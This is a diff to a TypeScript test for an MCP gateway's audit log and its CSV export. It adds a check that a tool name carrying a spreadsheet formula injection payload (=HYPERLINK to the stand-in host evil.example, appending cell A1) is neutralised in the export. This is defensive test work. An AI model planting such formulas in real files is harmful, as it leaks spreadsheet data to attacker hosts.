@@ -243,9 +243,13 @@ virtualMcps:
     await reader.cancel();
     const found = (await (await fetch(`${gateway.url}/admin/api/audit?tool=add&kind=mcp`, { headers })).json()) as { exposedName: string; outcome: string }[];
     expect(found[0]).toMatchObject({ exposedName: "add", outcome: "ok" });
+    // A person can put text in the trail (here a tool name): a formula must not run when the CSV is opened in a spreadsheet.
+    await c.callTool({ name: '=HYPERLINK("http://evil.example/?"&A1,"click")', arguments: {} });
     const csv = await (await fetch(`${gateway.url}/admin/api/audit/export?format=csv`, { headers })).text();
     expect(csv.split("\n")[0]).toStartWith("id,at,kind,person");
     expect(csv).toContain(",add,");
+    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
+    expect(csv).not.toContain(',"=HYPERLINK');
     // Admin changes made through the API and the CLI are on the record too.
     expect((await fetch(`${gateway.url}/admin/api/clients`, { method: "POST", headers: { ...headers, "content-type": "application/json" }, body: JSON.stringify({ name: "x", redirectUris: ["https://x.example.com/cb"] }) })).status).toBe(201);
     const admin = (await (await fetch(`${gateway.url}/admin/api/audit?kind=admin`, { headers })).json()) as { method: string; person: string }[];
